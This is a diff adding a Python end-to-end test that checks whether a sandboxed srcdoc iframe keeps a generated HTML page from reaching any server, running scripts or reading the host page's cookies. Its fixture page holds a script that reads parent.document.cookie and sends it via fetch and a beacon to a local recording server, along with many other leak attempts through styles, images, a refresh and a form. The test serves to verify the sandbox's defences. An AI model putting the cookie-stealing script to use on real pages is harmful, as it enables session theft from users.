@@ -1,0 +1,362 @@
+"""The preview's walls, in a real browser: a hostile generated page inside our sandboxed srcdoc iframe
+must render, yet reach no server, run no script and read nothing of the page around it.
+
+Chromium comes from Debian (`apt-get install chromium`), driven by Playwright's Python API; never
+`playwright install` (it downloads a browser and fails offline).
+"""
+
+from __future__ import annotations
+
+import html
+import os
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from babl_core.render import SANDBOX, preview_document, sandbox_for
+from babl_core.settings import REPO_ROOT, env_flag
+
+pytestmark = pytest.mark.e2e
+
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+OUTPUT_DIR = REPO_ROOT / "test-output"
+
+
+def require_chromium():
+    """Skips (with the install command) when Chromium or Playwright is missing, unless
+    BABL_CI_STRICT is set: then a missing browser fails the run."""
+    problem = None
+    if not CHROMIUM.exists():
+        problem = f"{CHROMIUM} is missing: apt-get install -y chromium chromium-driver"
+    else:
+        try:
+            import playwright.sync_api  # noqa: F401
+        except ImportError:
+            problem = (
+                "playwright is missing: pip install -r requirements-test.txt (never `playwright install`)"
+            )
+    if problem is None:
+        return
+    if env_flag("BABL_CI_STRICT"):
+        pytest.fail(f"BABL_CI_STRICT is set and {problem}")
+    pytest.skip(problem)
+
+
+class RecordingServer:
+    """A server on 127.0.0.1 that serves one page at `/` (setting a cookie) and records every path
+    requested: anything but `/` is a leak."""
+
+    def __init__(self) -> None:
+        self.page = ""
+        self.requests: list[str] = []
+        owner = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                owner.requests.append(self.path)
+                if self.path == "/":
+                    body = owner.page.encode("utf-8")
+                    self.send_response(200)
+                    self.send_header("Content-Type", "text/html; charset=utf-8")
+                    self.send_header("Set-Cookie", "babl_secret=s3cret; Path=/")
+                else:
+                    body = b"/* leaked */"
+                    self.send_response(200)
+                    self.send_header("Content-Type", "text/plain")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.httpd.server_address[1]
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}/"
+
+    def leaks(self) -> list[str]:
+        return [path for path in self.requests if path != "/"]
+
+
+def hostile_page(port: int) -> str:
+    """A generated page that tries every way out we know of."""
+    base = f"http://127.0.0.1:{port}"
+    return f"""<!DOCTYPE html>
+<html lang="en">
+<head>
+<title>Hostile page</title>
+<meta http-equiv="refresh" content="0;url={base}/leak-refresh">
+<base href="{base}/based/">
+<link rel="stylesheet" href="{base}/leak-stylesheet">
+<link rel="preconnect" href="{base}/leak-preconnect">
+<style>
+  @import url("{base}/leak-import");
+  @font-face {{ font-family: leak; src: url("{base}/leak-font"); }}
+  body {{ font-family: leak, sans-serif; background: #eef url("{base}/leak-background"); }}
+  h1 {{ color: #1a5; }}
+</style>
+</head>
+<body>
+<h1 id="headline">Hostile page rendered</h1>
+<p id="status">untouched</p>
+<p id="handler">untouched</p>
+<img src="{base}/leak-img" alt="remote image">
+<img src="leak-relative" alt="relative image">
+<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="inline image">
+<img src="x" onerror="document.getElementById('handler').textContent = 'handler ran'">
+<iframe src="{base}/leak-frame"></iframe>
+<object data="{base}/leak-object"></object>
+<video src="{base}/leak-video" autoplay muted></video>
+<form id="form" action="{base}/leak-form" method="post"><input name="q" value="1"></form>
+<script>
+  document.title = "script ran";
+  document.getElementById("headline").textContent = "script ran";
+  var cookie;
+  try {{ cookie = parent.document.cookie; }} catch (error) {{ cookie = "blocked: " + error.name; }}
+  document.getElementById("status").textContent = "cookie " + cookie;
+  fetch("{base}/leak-fetch?c=" + encodeURIComponent(cookie)).catch(function () {{}});
+  new Image().src = "{base}/leak-beacon";
+  try {{ document.getElementById("form").submit(); }} catch (error) {{}}
+</script>
+</body>
+</html>"""
+
+
+def embedding_page(srcdoc: str, sandbox: str) -> str:
+    """The app's side, reduced to what matters: a page holding the sandboxed srcdoc iframe."""
+    return (
+        "<!DOCTYPE html><html><head><title>host page</title><link rel='icon' href='data:,'></head><body>"
+        f'<iframe id="preview" sandbox="{html.escape(sandbox)}" srcdoc="{html.escape(srcdoc)}" '
+        'style="width:900px;height:600px;border:1px solid #888"></iframe>'
+        "</body></html>"
+    )
+
+
+@pytest.fixture(scope="module")
+def server():
+    recording = RecordingServer()
+    recording.thread.start()
+    yield recording
+    recording.httpd.shutdown()
+    recording.httpd.server_close()
+
+
+@pytest.fixture(scope="module")
+def browser():
+    require_chromium()
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        yield chromium
+        chromium.close()
+
+
+def load(browser, server, page_html: str):
+    """Opens `page_html` served at `/`, waits for the frame and anything it may try later, and
+    returns (page, leaked paths, console messages)."""
+    server.page = page_html
+    server.requests.clear()
+    context = browser.new_context()
+    page = context.new_page()
+    console: list[str] = []
+    page.on("console", lambda message: console.append(message.text))
+    page.goto(server.url, wait_until="load")
+    page.wait_for_load_state("networkidle")
+    page.wait_for_timeout(1500)  # a refresh, a form or a late fetch would have arrived by now
+    return context, page, server.leaks(), console
+
+
+def test_hostile_page_renders_but_reaches_nothing(browser, server):
+    document = preview_document(hostile_page(server.port))
+    context, page, leaks, console = load(browser, server, embedding_page(document, SANDBOX))
+    try:
+        frame = page.frame_locator("#preview")
+        headline = frame.locator("h1#headline")
+        headline.wait_for(state="visible", timeout=5000)
+        assert headline.inner_text() == "Hostile page rendered"  # no script changed it
+        assert frame.locator("#status").inner_text() == "untouched"
+        assert frame.locator("#handler").inner_text() == "untouched"  # no inline handler either
+        assert page.title() == "host page"
+        # The frame kept its srcdoc: no refresh or form navigated it away.
+        assert page.frames[1].url == "about:srcdoc"
+        # data: images are allowed: the page may inline its pictures.
+        inline_image = frame.locator("img[alt='inline image']")
+        assert inline_image.evaluate("img => img.decode().then(() => img.naturalWidth)") == 1
+        assert page.locator("#preview").get_attribute("sandbox") == ""
+        assert leaks == [], f"the preview reached the server: {leaks}"
+        assert server.requests == ["/"]
+        assert any("Content Security Policy" in text for text in console), console
+        OUTPUT_DIR.mkdir(exist_ok=True)
+        page.screenshot(path=str(OUTPUT_DIR / "preview.png"))
+    finally:
+        context.close()
+
+
+def test_with_scripts_on_scripts_run_but_still_reach_nothing(browser, server):
+    """Proves the checks above can fail (the same page with scripts allowed does run its script),
+    and that the CSP still stops every request and the opaque origin still hides the cookie."""
+    document = preview_document(hostile_page(server.port), allow_scripts=True)
+    context, page, leaks, _ = load(browser, server, embedding_page(document, sandbox_for(True)))
+    try:
+        frame = page.frame_locator("#preview")
+        frame.locator("h1#headline").wait_for(state="visible", timeout=5000)
+        assert frame.locator("h1#headline").inner_text() == "script ran"
+        status = frame.locator("#status").inner_text()
+        assert status.startswith("cookie blocked: SecurityError"), status
+        assert frame.locator("#handler").inner_text() == "handler ran"
+        assert page.title() == "host page"
+        assert leaks == [], f"the preview reached the server: {leaks}"
+    finally:
+        context.close()
+
+
+def test_control_without_our_document_the_sandbox_alone_leaks(browser, server):
+    """Control: the raw hostile page in the same sandbox does reach the server (images, styles,
+    refresh), so the test above would notice a preview_document that stopped doing its job."""
+    context, _page, leaks, _ = load(browser, server, embedding_page(hostile_page(server.port), SANDBOX))
+    try:
+        assert "/leak-img" in leaks
+        assert "/leak-stylesheet" in leaks
+    finally:
+        context.close()
+
+
+# --- the real custom element in Chainlit ------------------------------------------------------
+
+
+def free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def chainlit_app(server, tmp_path_factory):
+    """`chainlit run tests/assets/preview_app.py` from the repo root, so the project's
+    public/elements/HtmlPreview.jsx and .chainlit/config.toml are the ones served."""
+    require_chromium()
+    port = free_port()
+    log_path = tmp_path_factory.mktemp("chainlit") / "chainlit.log"
+    env = {
+        **os.environ,
+        "PYTHONPATH": str(REPO_ROOT),
+        "BABL_TEST_LEAK_URL": server.url,
+        "HF_HUB_OFFLINE": "1",
+    }
+    command = [sys.executable, "-m", "chainlit", "run", "tests/assets/preview_app.py", "--headless"]
+    command += ["--host", "127.0.0.1", "--port", str(port)]
+    with open(log_path, "wb") as log:
+        process = subprocess.Popen(command, cwd=REPO_ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 90
+    try:
+        while True:
+            if process.poll() is not None:
+                pytest.fail(f"chainlit exited with {process.returncode}:\n{log_path.read_text()[-3000:]}")
+            try:
+                with urllib.request.urlopen(f"{url}/health", timeout=2) as response:
+                    if response.status == 200:
+                        break
+            except OSError:
+                pass
+            if time.monotonic() > deadline:
+                pytest.fail(f"chainlit did not answer /health in 90 s:\n{log_path.read_text()[-3000:]}")
+            time.sleep(0.5)
+        yield url
+    finally:
+        process.terminate()
+        try:
+            process.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            process.wait()
+
+
+@pytest.mark.slow
+def test_html_preview_element_in_chainlit(browser, server, chainlit_app):
+    """public/elements/HtmlPreview.jsx as Chainlit 2.12 runs it: the sandboxed frame renders and
+    follows the element's update, UI state survives the update, the download is a non-HTML file
+    with the page in it, a tampered sandbox is refused, and nothing reaches the leak server."""
+    from playwright.sync_api import expect
+
+    server.requests.clear()
+    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    try:
+        page.goto(chainlit_app)
+        preview = page.get_by_test_id("html-preview")
+        expect(preview).to_have_count(1, timeout=30000)
+        frame = preview.frame_locator("iframe")
+        expect(frame.locator("h1#headline")).to_have_text("Hostile page rendered", timeout=10000)
+        expect(frame.locator("#last")).to_have_count(0)  # the streamed part only
+        expect(preview).to_contain_text("streaming")
+        download_button = preview.get_by_role("button", name="Download .html")
+        expect(download_button).to_be_disabled()
+        assert preview.locator("iframe").get_attribute("sandbox") == ""
+
+        # The generated HTML is shown as code in the chat, never rendered on the app's page.
+        assert page.locator("h1#headline").count() == 0
+        expect(page.locator(".message-content pre").first).to_contain_text('<h1 id="headline">')
+
+        # A sandbox with allow-same-origin is refused: a warning, no frame.
+        refused = page.get_by_test_id("html-preview-refused")
+        expect(refused).to_contain_text("allow-same-origin")
+        assert page.locator("iframe").count() == 1
+
+        # Full screen, then the final update: the state survives the remount.
+        preview.get_by_role("button", name="Full screen").click()
+        expect(preview).to_have_css("position", "fixed")
+        page.locator("#chat-input").fill("done")
+        page.locator("#chat-input").press("Enter")
+        expect(frame.locator("#last")).to_have_text("The last part", timeout=15000)
+        expect(preview).not_to_contain_text("streaming")
+        expect(preview).to_have_css("position", "fixed")
+        page.keyboard.press("Escape")
+        expect(preview).not_to_have_css("position", "fixed")
+
+        expect(download_button).to_be_enabled()
+        with page.expect_download() as download_info:
+            download_button.click()
+        download = download_info.value
+        assert download.suggested_filename == "hostile-page.html"
+        saved = Path(download.path()).read_text(encoding="utf-8")
+        assert saved.startswith("<!DOCTYPE html>") and '<p id="last">The last part</p>' in saved
+        assert "Content-Security-Policy" not in saved  # the page as generated, not the srcdoc
+        blob_type = page.evaluate(
+            "() => new Promise(done => { const before = URL.createObjectURL;"
+            " URL.createObjectURL = blob => { URL.createObjectURL = before; done(blob.type);"
+            " return before(blob); }; document.querySelector('[data-testid=html-preview] button:last-child').click(); })"
+        )
+        assert blob_type == "application/octet-stream"
+
+        expect(frame.locator("h1#headline")).to_have_text("Hostile page rendered")
+        page.wait_for_timeout(1000)
+        OUTPUT_DIR.mkdir(exist_ok=True)
+        page.screenshot(path=str(OUTPUT_DIR / "preview-chainlit.png"))
+        assert server.leaks() == [], f"the preview reached the server: {server.leaks()}"
+        assert server.requests == []
+    finally:
+        context.close()
